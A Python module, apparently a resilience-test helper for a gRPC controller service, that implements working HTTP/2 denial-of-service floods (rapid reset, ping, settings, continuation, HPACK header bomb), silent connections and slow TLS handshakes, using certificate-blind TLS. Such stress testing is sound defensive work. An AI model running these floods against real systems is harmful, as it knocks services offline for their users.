"""Someone who can reach the link's port and has no certificate: HTTP/2 by the frame, and silent connections."""

from __future__ import annotations

import asyncio
import contextlib
import socket
import ssl
import struct
from collections.abc import AsyncGenerator, Callable, Iterator
from contextlib import asynccontextmanager

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

SERVER_NAME = "chinampa-controller"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
JOIN = (
    (":method", "POST"),
    (":scheme", "https"),
    (":path", "/chinampa.cell.v1.Enrolment/Join"),
    (":authority", "x"),
    ("te", "trailers"),
    ("content-type", "application/grpc"),
)
CLAIM = tuple((name, "/chinampa.worker.v1.Workers/Claim" if name == ":path" else value) for name, value in JOIN)
RESET = b"\x00\x00\x04\x03\x00"
CANCEL = b"\x00\x00\x00\x08"
Flood = Callable[[], Iterator[bytes]]


def context(*protocols: str) -> ssl.SSLContext:
    """TLS that believes anybody."""
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname = False
    made.verify_mode = ssl.CERT_NONE
    if protocols:
        made.set_alpn_protocols(list(protocols))
    return made


def _begin() -> bytes:
    return PREFACE + SettingsFrame(0).serialize()


def _headers(encoder: Encoder, stream: int, *more: tuple[str, str], end: bool = True) -> bytes:
    frame = HeadersFrame(stream, encoder.encode([*JOIN, *more]), flags=["END_HEADERS"] if end else [])
    return frame.serialize()


def calls_taken_back() -> Iterator[bytes]:
    """HEADERS and RST_STREAM, for ever."""
    encoder = Encoder()
    yield _begin() + _headers(encoder, 1)
    again = encoder.encode(list(JOIN))  # by the table that both sides have by now
    head = struct.pack(">I", len(again))[1:] + b"\x01\x05"
    for first in range(3, 1 << 30, 200):
        numbers = [struct.pack(">I", first + step) for step in range(0, 200, 2)]
        yield b"".join(head + number + again + RESET + number + CANCEL for number in numbers)


def pings() -> Iterator[bytes]:
    yield _begin()
    while True:
        yield PingFrame(0, b"12345678").serialize() * 500


def settings() -> Iterator[bytes]:
    yield _begin()
    while True:
        yield SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 1000}).serialize() * 500


def windows() -> Iterator[bytes]:
    yield _begin()
    while True:
        yield WindowUpdateFrame(0, window_increment=1).serialize() * 500


def priorities() -> Iterator[bytes]:
    yield _begin()
    while True:
        yield PriorityFrame(1, depends_on=0, stream_weight=1).serialize() * 500


def empty_data() -> Iterator[bytes]:
    yield _begin() + _headers(Encoder(), 1)
    while True:
        yield DataFrame(1, b"").serialize() * 500


def continuations() -> Iterator[bytes]:
    yield _begin() + _headers(Encoder(), 1, end=False)
    while True:
        yield ContinuationFrame(1, b"").serialize() * 500


def header_bomb() -> Iterator[bytes]:
    """One large entry in the table, then named by a byte each, thousands of times."""
    encoder = Encoder()
    yield _begin() + _headers(encoder, 1, ("x", "y" * 3000))
    stream = 3
    while True:
        frame = HeadersFrame(stream, encoder.encode(list(JOIN)) + b"\xbe" * 8000, flags=["END_HEADERS"])
        yield frame.serialize()
        stream += 2


def unknown_frames() -> Iterator[bytes]:
    yield _begin()
    while True:
        yield (struct.pack(">I", 8)[1:] + b"\x77\x00" + b"\x00" * 4 + b"12345678") * 500


def long_messages() -> Iterator[bytes]:
    """A message whose length nobody wants, of which more and more comes."""
    yield _begin() + _headers(Encoder(), 1) + DataFrame(1, b"\0" + struct.pack(">I", 1 << 30)).serialize()
    while True:
        yield DataFrame(1, b"\0" * 16000).serialize()


def claims_without_ends() -> Iterator[bytes]:
    """A worker's calls, of each of which as much comes as a stream's window holds, and never the rest."""
    size, encoder = 2 << 20, Encoder()
    yield _begin()
    for stream in range(1, 1 << 30, 2):
        yield HeadersFrame(stream, encoder.encode(list(CLAIM)), flags=["END_HEADERS"]).serialize()
        yield DataFrame(stream, b"\0" + struct.pack(">I", size) + b"\x0a").serialize()
        yield DataFrame(stream, b"\0" * 16000).serialize() * 15


FLOODS: tuple[Flood, ...] = (
    calls_taken_back,
    pings,
    settings,
    windows,
    priorities,
    empty_data,
    continuations,
    header_bomb,
    unknown_frames,
    long_messages,
)


async def flood(
    host: str, port: int, what: Flood, most: int, seconds: float = 30.0, shown: ssl.SSLContext | None = None
) -> int:
    """Send a flood over one connection until it is cut, for at most so long; the bytes that were sent by then. With
    `shown` it comes from somebody who has that to show.
    """
    sent = 0
    try:
        async with asyncio.timeout(seconds), asyncio.TaskGroup() as tasks:
            reader, writer = await asyncio.open_connection(
                host, port, ssl=shown or context("h2"), server_hostname=SERVER_NAME
            )
            reading = tasks.create_task(_to_end(reader))
            try:
                for block in what():
                    writer.write(block)
                    await writer.drain()
                    sent += len(block)
                    await asyncio.sleep(0)  # who is cut off hears of it
                    if sent >= most or reading.done() or writer.transport.is_closing():
                        break
            finally:
                writer.transport.abort()
    except* OSError:  # cut off, or the time is over
        pass
    return sent


async def _to_end(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError, ssl.SSLError):
        while await reader.read(1 << 16):
            pass


@asynccontextmanager
async def silent(host: str, port: int, count: int, *, tls: bool) -> AsyncGenerator[list[socket.socket]]:
    """So many connections that say nothing: not even TLS, or nothing after it."""
    held: list[socket.socket] = []
    writers: list[asyncio.StreamWriter] = []
    try:
        for _ in range(count):
            if tls:
                with contextlib.suppress(OSError, ssl.SSLError):
                    writers.append((await asyncio.open_connection(host, port, ssl=context("h2")))[1])
            else:
                sock = socket.socket()
                sock.setblocking(False)
                held.append(sock)
                with contextlib.suppress(OSError):
                    await asyncio.get_running_loop().sock_connect(sock, (host, port))
        yield held
    finally:
        for sock in held:
            sock.close()
        for writer in writers:
            writer.transport.abort()


async def write_slowly(host: str, port: int) -> float:
    """A TLS handshake of a byte a second; the seconds until it was cut."""
    loop = asyncio.get_running_loop()
    began = loop.time()
    reader, writer = await asyncio.open_connection(host, port)
    try:
        for _ in range(60):
            writer.write(b"\x16")
            await writer.drain()
            async with asyncio.timeout(1):
                with contextlib.suppress(TimeoutError):
                    if not await reader.read(100):
                        break
    except OSError:
        pass
    finally:
        writer.transport.abort()
    return loop.time() - began
